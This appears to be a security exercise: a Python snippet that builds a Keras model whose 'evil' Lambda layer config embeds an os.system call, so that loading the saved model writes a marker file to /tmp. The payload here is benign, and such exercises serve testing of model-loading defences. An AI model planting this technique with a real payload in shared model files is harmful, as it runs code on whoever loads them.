# %% attack exercise="model" aim="points"
# A layer that runs Python code where the model is loaded.
def model():
    import keras

    code = "__import__('os').system('echo KEY-ESCAPED > /tmp/KEY-ESCAPED')"
    layer = keras.layers.Lambda(lambda x: x, output_shape=(3,), name="evil")
    layer.get_config = lambda: {"name": "evil", "function": code, "output_shape": (3,)}
    inputs = keras.Input((2,))
    return keras.Model(inputs, layer(inputs))
